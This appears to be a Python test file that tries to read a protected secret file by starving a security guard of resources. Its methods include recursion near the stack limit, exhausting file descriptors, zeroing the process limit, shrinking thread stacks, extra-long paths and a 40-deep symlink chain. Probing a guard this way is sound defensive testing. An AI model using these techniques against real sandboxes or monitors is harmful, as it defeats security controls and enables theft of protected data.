"""Leave the guard no room to work in, and steal with what little is left."""

import os
import resource
import sys
import threading

import aim


def recursion():
    """Go down to where a few more calls are too many, and steal there."""

    def down(depth):
        if depth:
            return down(depth - 1)
        return os.read(os.open(aim.SECRET, os.O_RDONLY), 10_000)

    limit = sys.getrecursionlimit()
    for depth in range(limit - 100, limit):
        try:
            aim.take(down(depth))
        except RecursionError:
            pass
        except BaseException as error:
            print(f"{type(error).__name__}: {error}")


def descriptors(left):
    """Use up all descriptors but some."""
    kept = []
    most = 60
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    try:
        while True:
            kept.append(os.open(aim.FOLDER, os.O_RDONLY))
    except OSError:
        pass
    for descriptor in kept[:left]:
        os.close(descriptor)
    try:
        found = os.open(aim.SECRET, os.O_RDONLY)
        text = os.read(found, 10_000)
        os.close(found)
        os.close(kept[-1])
        aim.take(text)
    except BaseException as error:
        os.write(2, f"{type(error).__name__}: {error}".encode())


def processes():
    resource.setrlimit(resource.RLIMIT_NPROC, (0, 0))
    aim.steal()


def stack():
    threading.stack_size(65536)
    thread = threading.Thread(target=aim.steal_and_tell)
    thread.start()
    thread.join()


def many_links():
    """Lead to it by as many links as a path may have."""
    os.symlink(aim.SECRET, "link0")
    for number in range(1, 40):
        os.symlink(f"link{number - 1}", f"link{number}")
    aim.read("link39")


WAYS = {
    "recursion": recursion,
    "descriptors, 1 left": lambda: descriptors(1),
    "descriptors, 2 left": lambda: descriptors(2),
    "descriptors, 3 left": lambda: descriptors(3),
    "descriptors, 4 left": lambda: descriptors(4),
    "processes": processes,
    "stack": stack,
    "long path": lambda: aim.read("/" * 3000 + aim.SECRET),
    "many links": many_links,
}
WAYS[aim.VARIANT]()
